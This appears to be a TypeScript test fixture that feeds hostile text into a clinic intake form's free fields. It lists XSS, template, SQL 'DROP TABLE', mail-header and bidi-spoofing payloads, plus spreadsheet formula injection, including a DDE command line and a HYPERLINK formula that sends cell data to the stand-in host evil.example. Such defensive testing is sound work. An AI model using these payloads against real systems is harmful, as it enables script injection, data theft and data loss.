import type { IntakeRequest } from '#lib/intake/schema.ts';
import { intakeRequestSchema } from '#lib/intake/schema.ts';

/** What somebody may write who means harm, or who writes about programs: each would be something else than text to one of the programs it passes through. */
export const hostileTexts = {
  'an element with a handler': 'Sam <img src=x onerror=alert(1)>',
  'the end of what it stands in': `Sam '"></textarea></title></script><script>alert(2)</script><!--`,
  'a drawing that runs': 'Sam <svg onload=alert(3)><a xlink:href="javascript:alert(4)">x</a></svg>',
  'names of characters': 'Sam &lt;b&gt;bold&lt;/b&gt; &amp;amp; &#60;i&#62;',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a careless template would fill in.
  templates: 'Sam {{7*7}} ${7*7} <%= 7*7 %> #{7*7} {name} {count, plural, other {#}}',
  'signs of a replacement': "Sam $& $1 $$ $` $' \\1 \\n \\u003cb\\u003e",
  Markdown: 'Sam [x](javascript:alert(5)) ![y](//evil.example/y) **b** `c` <https://evil.example>',
  'a formula': '=HYPERLINK("https://evil.example/?"&A1,"Sam")',
  'a formula of another sign': '@SUM(A1:A9) Sam',
  'a formula behind a separator': `Sam;=cmd|' /C calc'!A0;"+1`,
  'headers of a mail': 'Sam\r\nBcc: all@evil.example\r\nContent-Type: text/html\r\n\r\n<b>Sam</b>\r\n.\r\n',
  'another direction': 'Sam \u202efdp.exe\u202c \u2067gnp.\u2069 end',
  'a query of the database': `Sam'; DROP TABLE requests; --`,
} as const;

/** A request of someone who writes this in every free field that takes it, as the form would keep it. */
export function hostileRequest(text: string, contact: 'phone' | 'email' = 'email'): IntakeRequest {
  const reach =
    contact === 'phone'
      ? { contact, phone: '613 555 0199 ext. 12', message: 'yes' }
      : { contact, email: `a&bcc=all%40evil.example&body={{7*7}}$&'|=1+1@visitor.example` };
  return intakeRequestSchema.parse({
    details: { forWhom: 'self', name: text.slice(0, 100), nameClinic: 'yes', language: 'en', ...reach },
    wishes: { help: ['sleep'], note: text, location: 'ottawa', times: ['morning'] },
    consent: { contactMe: 'yes', confirm: 'yes' },
  });
}
